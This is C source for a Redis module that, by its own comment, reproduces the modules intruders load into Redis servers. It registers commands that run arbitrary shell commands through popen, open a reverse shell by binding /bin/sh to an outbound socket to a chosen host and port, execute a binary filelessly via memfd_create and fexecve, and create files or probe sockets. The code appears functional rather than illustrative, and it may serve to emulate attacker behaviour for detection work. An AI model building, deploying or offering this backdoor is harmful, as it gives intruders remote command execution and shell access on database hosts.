/* A module of Redis as intruders bring it: run.shell COMMAND, and acts of the server's own process. No header needed. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

typedef int (*command)(void *, void **, int);
static int (*get_api)(const char *, void *);
static int (*create)(void *, const char *, command, const char *, int, int, int);
static int (*set_attributes)(void *, const char *, int, int);
static const char *(*text)(void *, size_t *);
static int (*reply)(void *, const char *, size_t);

static int answer(void *ctx, int worked)
{
	return worked ? reply(ctx, "DONE", 4) : reply(ctx, "failed", 6);
}

static int shell(void *ctx, void **words, int count)
{
	static char out[65536];
	FILE *pipe = popen(text(words[1], NULL), "r");
	size_t size = pipe ? fread(out, 1, sizeof(out), pipe) : 0;

	if (pipe)
		pclose(pipe);
	return reply(ctx, out, size);
}

static int opened(void *ctx, void **words, int count)
{
	int file = open(text(words[1], NULL), count > 2 ? O_WRONLY | O_CREAT : O_RDONLY, 0600);

	if (file >= 0)
		close(file);
	return answer(ctx, file >= 0);
}

static int connected(void *ctx, void **words, int count)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(atoi(text(words[2], NULL))) };
	int s = socket(AF_INET, SOCK_STREAM, 0);

	inet_pton(AF_INET, text(words[1], NULL), &to.sin_addr);
	int worked = !connect(s, (struct sockaddr *)&to, sizeof(to));
	if (worked && count > 3 && !fork()) {
		for (int d = 0; d < 3; d++)
			dup2(s, d);
		execl("/bin/sh", "sh", NULL);
		_exit(1);
	}
	close(s);
	return answer(ctx, worked);
}

static int listened(void *ctx, void **words, int count)
{
	struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(atoi(text(words[1], NULL))) };
	int s = socket(AF_INET, SOCK_STREAM, 0);
	int worked = !bind(s, (struct sockaddr *)&at, sizeof(at)) && !listen(s, 1);

	close(s);
	return answer(ctx, worked);
}

static int spoke(void *ctx, void **words, int count)
{
	struct sockaddr_un to = { .sun_family = AF_UNIX };
	int s = socket(AF_UNIX, SOCK_STREAM, 0);

	strncpy(to.sun_path, text(words[1], NULL), sizeof(to.sun_path) - 1);
	int worked = !connect(s, (struct sockaddr *)&to, sizeof(to));
	close(s);
	return answer(ctx, worked);
}

static int fileless(void *ctx, void **words, int count)
{
	int to = memfd_create("job", 0), from = open("/bin/true", O_RDONLY), status = 1;
	char data[65536];
	ssize_t size;

	while ((size = read(from, data, sizeof(data))) > 0)
		if (write(to, data, size) != size)
			break;
	close(from);
	pid_t child = fork();
	if (!child) {
		fexecve(to, (char *[]){ "job", NULL }, (char *[]){ NULL });
		_exit(1);
	}
	waitpid(child, &status, 0);
	close(to);
	return answer(ctx, status == 0);
}

static const struct {
	const char *name;
	command act;
} commands[] = {
	{ "run.shell", shell },	      { "run.open", opened },  { "run.connect", connected },
	{ "run.listen", listened }, { "run.speak", spoke }, { "run.fileless", fileless },
};

int RedisModule_OnLoad(void *ctx, void **words, int count)
{
	get_api = *(void **)ctx;
	get_api("RedisModule_CreateCommand", &create);
	get_api("RedisModule_SetModuleAttribs", &set_attributes);
	get_api("RedisModule_StringPtrLen", &text);
	get_api("RedisModule_ReplyWithStringBuffer", &reply);
	set_attributes(ctx, "run", 1, 1);
	for (size_t i = 0; i < sizeof(commands) / sizeof(*commands); i++)
		if (create(ctx, commands[i].name, commands[i].act, "write", 0, 0, 0))
			return 1;
	return 0;
}
